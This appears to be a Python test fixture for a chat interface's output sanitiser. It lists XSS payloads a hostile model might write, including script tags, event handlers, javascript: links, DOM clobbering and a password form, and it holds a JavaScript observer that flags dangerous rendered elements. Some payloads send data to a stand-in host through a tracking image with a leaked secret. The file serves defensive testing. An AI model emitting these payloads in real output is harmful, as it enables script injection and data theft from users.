"""Texts that a hostile model might write, and a guard that sees what becomes of them."""

from __future__ import annotations

ELSEWHERE = "https://elsewhere.example"

HOSTILE = {
    "script": "<script>globalThis.pwned = 1</script>",
    "handler": "<img src=x onerror='globalThis.pwned = 1'>",
    "svg": "<svg onload='globalThis.pwned = 1'><script>globalThis.pwned = 1</script></svg>",
    "details": "<details open ontoggle='globalThis.pwned = 1'>x</details>",
    "frame": "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "frame elsewhere": f"<iframe src='{ELSEWHERE}/'></iframe>",
    "object": f"<object data='{ELSEWHERE}/x'></object><embed src='{ELSEWHERE}/'>",
    "script link": "[click](javascript:globalThis.pwned=1)",
    "raw script link": "<a href='java&#10;script:globalThis.pwned=1'>click</a>",
    "other script links": "[click](vbscript:x) [click](  javascript:alert(1)) [x](JAVASCRIPT:x)",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "autolink": "<javascript:alert(1)>",
    "reference": "[click][1]\n\n[1]: javascript:globalThis.pwned=1",
    "remote image": f"![pixel]({ELSEWHERE}/pixel.png?leak=secret)",
    "remote image by reference": f"![pixel][p]\n\n[p]: {ELSEWHERE}/pixel.png",
    "remote image in a link": f"[![pixel]({ELSEWHERE}/pixel.png)]({ELSEWHERE}/)",
    "raw remote image": f"<img src='{ELSEWHERE}/pixel.png'>",
    "image set": f"<img srcset='{ELSEWHERE}/a.png 2x'><video poster='{ELSEWHERE}/b'></video>",
    "image of the same origin": "![pixel](/chat/stream/secret)",
    "style sheet": f"<style>body {{ display: none }} @import '{ELSEWHERE}/x.css';</style>",
    "style attribute": f"<p style='position:fixed;inset:0;background:url({ELSEWHERE}/x)'>x</p>",
    "form": f"<form action='{ELSEWHERE}/'><input name=password><button>Log in</button></form>",
    "base": f"<base href='{ELSEWHERE}/'>[home](/)",
    "refresh": f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/'>",
    "link element": f"<link rel=stylesheet href='{ELSEWHERE}/x.css'>",
    "clobbering": "<form id=root><input name=attributes></form><a id=fetch name=fetch>x</a>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=globalThis.pwned=1>'>",
    "open fence": "```html\n<script>globalThis.pwned = 1</script>\n",
    "fence language": '```"><img src=x onerror=globalThis.pwned=1>\nx\n```',
    "math": f"$$\\href{{javascript:pwned=1}}{{x}}$$ $\\includegraphics{{{ELSEWHERE}/x}}$",
    "diagram": '```mermaid\ngraph TD; A[<img src=x onerror=pwned=1>]\nclick A "javascript:x"\n```',
    "title": "[x](https://example.org \"' onmouseover='globalThis.pwned=1\")",
}

# Looks at everything that is put into the text of a message, at the moment when it is.
GUARD = """
  globalThis.found = [];
  const forbidden = "script, iframe, frame, object, embed, form, style, link, meta, base, video, " +
    "audio, source, [srcdoc], [srcset], [poster], [formaction], [action]";
  const isHarmful = (element) => element.matches(forbidden) ||
    [...element.attributes].some(({ name, value }) =>
      /^on/i.test(name) ||
      (/^(xlink:)?href$/i.test(name) && !/^(https?:|mailto:|#)/i.test(value)) ||
      (name === "src" && !/^data:image\\//.test(value)) ||
      (name === "style" && /url\\(|position/i.test(value)));
  const judge = (element) => {
    if (element.closest(".tt-text") && isHarmful(element)) found.push(element.outerHTML);
  };
  new MutationObserver((records) => {
    for (const { target, addedNodes } of records) {
      for (const node of [target, ...addedNodes]) {
        if (node instanceof Element) [node, ...node.querySelectorAll("*")].forEach(judge);
      }
    }
  }).observe(document, { subtree: true, childList: true, attributes: true });
"""
